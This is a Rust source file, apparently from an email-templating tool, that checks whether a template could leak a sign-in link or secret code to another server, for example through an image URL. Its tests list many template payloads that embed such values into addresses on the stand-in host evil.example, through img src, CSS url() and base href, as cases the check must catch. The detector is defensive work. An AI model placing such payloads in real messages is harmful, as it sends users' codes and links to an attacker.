//! Whether a text would tell a link or a secret to somebody else: as a part of an address of another server, which a mail
//! program asks for a picture, or makes a link of (G7).

use super::html::{Html, Place};
use crate::messages::sandbox::{Piece, pieces};
use crate::messages::variables::{Kind, Variable};

/// What is wrong with where one of `guarded` stands, for people; `None` when nothing is.
pub(super) fn leak(source: &str, is_html: bool, guarded: &[&Variable]) -> Option<String> {
    let pieces = pieces(source).ok()?;
    let mut html = Html::default();
    for (at, piece) in pieces.iter().enumerate() {
        let place = if is_html { html.place() } else { Place::Text };
        match piece {
            Piece::Value(inside) => {
                if let Some(variable) = guarded.iter().find(|variable| mentions(inside, variable)) {
                    let is_alone = inside.trim() == variable.name && !inside.starts_with('-');
                    if !is_alone {
                        return Some(not_alone(variable));
                    }
                    let is_told = match place {
                        Place::Text => !follows_a_gap(&pieces[..at], is_html),
                        Place::StartOfLink => variable.kind != Kind::Link,
                        Place::Elsewhere => true,
                    };
                    if is_told {
                        return Some(told(variable, is_html));
                    }
                }
                html.value();
            }
            Piece::Statement(inside) => {
                if let Some(variable) = guarded.iter().find(|variable| mentions(inside, variable))
                    && !asks_for_it(inside, variable)
                {
                    return Some(not_alone(variable));
                }
                html.statement();
            }
            Piece::Comment => html.statement(),
            Piece::Text(text) => html.text(text),
        }
    }
    None
}

fn mentions(inside: &str, variable: &Variable) -> bool {
    inside.split(|sign: char| !sign.is_alphanumeric() && sign != '_').any(|word| word == variable.name)
}

/// Whether a statement asks no more than whether there is one.
fn asks_for_it(inside: &str, variable: &Variable) -> bool {
    let words: Vec<&str> = inside.split_whitespace().filter(|word| *word != "-").collect();
    let name = words.last().is_some_and(|last| last.trim_end_matches('-') == variable.name);
    name && matches!(
        words.as_slice(),
        ["if" | "elif" | "-if" | "-elif", _] | ["if" | "elif" | "-if" | "-elif", "not", _]
    )
}

/// Whether a blank, the end of a tag or nothing at all stands before what comes after `before`, whichever branches are
/// taken, and whatever blanks statements take away.
fn follows_a_gap(before: &[Piece<'_>], is_html: bool) -> bool {
    let Some((last, earlier)) = before.split_last() else { return true };
    match last {
        Piece::Text(text) if text.trim().is_empty() => match earlier.last() {
            None => true,
            Some(Piece::Value(inside)) => !inside.ends_with('-'),
            Some(Piece::Statement(inside)) if !inside.ends_with('-') => {
                // The end of its line goes with a statement.
                let left = text.strip_prefix("\r\n").or(text.strip_prefix('\n')).unwrap_or(text);
                !left.is_empty() || follows_an_if(earlier, is_html)
            }
            _ => false,
        },
        Piece::Text(text) => ends_with_a_gap(text, is_html),
        Piece::Statement(_) => follows_an_if(before, is_html),
        Piece::Value(_) | Piece::Comment => false,
    }
}

/// The same of what comes after an `if`: before it stands what stands before that.
fn follows_an_if(before: &[Piece<'_>], is_html: bool) -> bool {
    let Some((Piece::Statement(inside), earlier)) = before.split_last() else { return false };
    let is_if = inside.split_whitespace().next() == Some("if") && !inside.ends_with('-');
    is_if
        && match earlier {
            [] => true,
            [.., Piece::Text(text)] => !text.trim().is_empty() && ends_with_a_gap(text, is_html),
            _ => false,
        }
}

fn ends_with_a_gap(text: &str, is_html: bool) -> bool {
    text.ends_with(char::is_whitespace) || (is_html && text.ends_with('>'))
}

fn not_alone(variable: &Variable) -> String {
    let name = variable.name;
    format!("{{{{ {name} }}}} can stand by itself only, without filters; besides, {{% if {name} %}} can ask for it.")
}

fn told(variable: &Variable, is_html: bool) -> String {
    let name = variable.name;
    let places = match (is_html, variable.kind) {
        (true, Kind::Link) => "after a blank or a tag, or at the beginning of an href in quotes",
        (true, _) => "after a blank or a tag",
        (false, _) => "after a blank or at the beginning of a line",
    };
    format!("{{{{ {name} }}}} could become a part of another address here, and be told to its owner. Put it {places}.")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::messages::variables::{link, secret};

    const URL: Variable = link("url", "", "https://sso.example.com/x/SAMPLE");
    const CODE: Variable = secret("code", "", "493 027");

    fn leaks(source: &str, is_html: bool) -> bool {
        leak(source, is_html, &[&URL, &CODE]).is_some()
    }

    #[test]
    fn g7_nothing_is_told_to_the_owner_of_another_address() {
        for plain in [
            "https://evil.example/?{{ url }}",
            "https://evil.example/? {{- url }}",
            "https://evil.example/?{% if true %}{{ code }}{% endif %}",
            "https://evil.example/?{% if true %}\n{{ code }}{% endif %}",
            "https://evil.example/? {%- if true %}{{ code }}{% endif %}",
            "https://evil.example/?{% if true -%} {{ code }}{% endif %}",
            "{% if a %}https://evil.example/?{% else %} {% endif %}{{ code }}",
            "{{ 'https://evil.example/?' }}{{ code }}",
            "https://evil.example/?{# #}{{ code }}",
            "{{ 'x' if code else 'y' }}",
            "{{ code[0] }}",
            "{{ '' | default(code) }}",
            "{% if code[0] == '4' %}https://evil.example/4{% endif %}",
            "{% for c in [code] %}https://evil.example/{{ c }}{% endfor %}",
        ] {
            assert!(leaks(plain, false), "{plain}");
        }
        for html in [
            "<img src=\"https://evil.example/?{{ url }}\">",
            "<img src=\"https://evil.example/? {{ url }}\">",
            "<img src='https://evil.example/?<a href=\"{{ url }}\">'>",
            "<img src=https://evil.example/?{{ url }}>",
            "<img src=x\" href=\"{{ url }}\">",
            "<img src=\"{{ code }}\">",
            "<a href=\"{{ code }}\">x</a>",
            "<a href=\"https://evil.example/?{{ url }}\">x</a>",
            "<a href=\"{% if a %}https://evil.example/?{% endif %}{{ url }}\">x</a>",
            "{% if a %}<img src=\"https://evil.example/?{% else %}<a href=\"{% endif %}{{ url }}\">",
            "<style>p { background: url('https://evil.example/? {{ code }}') }</style>",
            "<BASE href=\"https://evil.example\"><p>{{ code }}</p>",
            "<!-- {{ code }} -->",
            "https://evil.example/?{{ code }}",
        ] {
            assert!(leaks(html, true), "{html}");
        }
    }

    #[test]
    fn where_they_belong_they_may_stand() {
        for plain in
            ["{{ url }}", "Open\n{{ url }}", "{% if code %}\n{{ code }}\n{% endif %}", "{{ name }}: {{ code }}."]
        {
            assert!(!leaks(plain, false), "{plain}");
        }
        for html in [
            "<p><a class=\"button\" href=\"{{ url }}\">Go</a> <br>{{ url }}</p>",
            "{% if code %}<p class='code'>{{ code }}</p>{% endif %}",
            "<p>1 < 2: {{ code }}</p><img src=\"https://elsewhere.example/logo.png\" alt=\"{{ name }}\">",
        ] {
            assert!(!leaks(html, true), "{html}");
        }
    }
}
